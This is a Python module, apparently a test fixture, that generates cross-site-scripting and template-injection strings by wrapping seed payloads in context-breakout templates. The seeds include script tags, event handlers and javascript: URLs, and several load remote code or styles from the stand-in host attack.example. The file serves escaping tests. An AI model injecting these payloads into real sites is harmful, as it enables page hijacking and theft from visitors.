"""Texts that would do harm on a page if they were ever more than text (M17)."""

from __future__ import annotations

# What would do harm if it were more than text, and what it might break out of.
SEEDS = (
    "<script>pwned=1</script>",
    "<script src=//attack.example/x.js></script>",
    "<img src=x onerror=pwned=1>",
    "<img src=//attack.example/i.png>",
    "<svg onload=pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<iframe src=javascript:pwned=1>",
    "<object data=//attack.example/o>",
    "<link rel=stylesheet href=//attack.example/c>",
    "<style>@import '//attack.example/c'</style>",
    "<base href=//attack.example/>",
    "<meta http-equiv=refresh content=0;//attack.example>",
    "<a href=javascript:pwned=1>x</a>",
    "<form action=//attack.example><button>x</form>",
    "<input autofocus onfocus=pwned=1>",
    "<details open ontoggle=pwned=1>",
    "<video src=//attack.example onerror=pwned=1>",
    "<math><mi xlink:href=javascript:pwned=1>",
    "<template><script>pwned=1</script></template>",
    "<p style=background:url(//attack.example/b)>",
    "javascript:pwned=1",
    "https://attack.example/p?a=1&b=2",
    "${pwned=1}",
    "{{pwned=1}}",
    "{name} {0} %s %(n)s",
)
TEMPLATES = (
    "{}",
    '">{}',
    "'>{} ' onfocus=pwned=1 autofocus='",
    "</textarea></select></title>{}",
    "-->]]>{}<!--",
    "*{}* _x_ `{}` <@U1> [x](javascript:pwned=1)",
    "&lt;{}&#60;\\u003c%3C",
    "\u202e\U0001f680 لا {} \u2066\u200b",
)
PAYLOADS = tuple(template.replace("{}", seed) for seed in SEEDS for template in TEMPLATES)
NAMES = tuple(
    " ".join(f"{number} {payload}"[:60].split()) for number, payload in enumerate(PAYLOADS)
)
# Long fields take many at once, each on a line of its own.
BUNDLES = tuple("\n".join(PAYLOADS[start : start + 25]) for start in range(0, 200, 25))
